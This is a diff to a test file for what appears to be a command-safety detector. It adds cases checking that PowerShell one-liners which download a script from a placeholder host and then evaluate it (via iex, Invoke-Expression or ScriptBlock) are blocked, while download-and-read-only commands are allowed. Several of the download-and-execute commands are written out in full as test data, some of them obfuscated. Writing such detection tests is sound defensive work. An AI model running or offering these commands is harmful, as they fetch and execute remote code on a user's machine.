@@ -219,3 +219,18 @@ describe('PowerShell: a downloaded file named in an expression is not run', () =
     'iwr https://x.example/a.exe -OutFile C:\\Temp\\a.exe; C:\\Temp\\a.exe /quiet',
   ])('still blocks %s (run by & or . or by its path)', (text) => blocksAs(text, 'powershell', 'dl.file-then-run'));
 });
+
+describe('PowerShell: a downloaded file read into code that is evaluated', () => {
+  it.each([
+    'iwr https://x.example/a.ps1 -OutFile a.ps1; iex (gc a.ps1 -Raw)',
+    'iwr https://x.example/a.ps1 -OutFile a.ps1; Get-Content a.ps1 | Out-String | Invoke-Expression',
+    "(New-Object Net.WebClient).DownloadFile('https://x.example/p','p.ps1'); IEX((-Join([IO.File]::ReadAllBytes('p.ps1')|%{[Char]$_})))",
+    'Start-BitsTransfer https://x.example/a.txt C:\\Temp\\a.txt; [ScriptBlock]::Create([IO.File]::ReadAllText("C:\\Temp\\a.txt")).Invoke()',
+  ])('blocks %s', (text) => blocksAs(text, 'powershell', 'dl.file-then-run'));
+
+  it.each([
+    'iwr https://x.example/a.json -OutFile a.json; Get-Content a.json | ConvertFrom-Json',
+    'iwr https://x.example/a.ps1 -OutFile a.ps1; Get-Content a.ps1 | Select-String Invoke-Expression',
+    'iwr https://x.example/list.txt -OutFile l.txt; foreach ($h in [IO.File]::ReadAllLines("l.txt")) { Test-Connection $h -Count 1 }',
+  ])('allows %s (read, not evaluated)', (text) => notDownloadExecute(text, 'powershell'));
+});
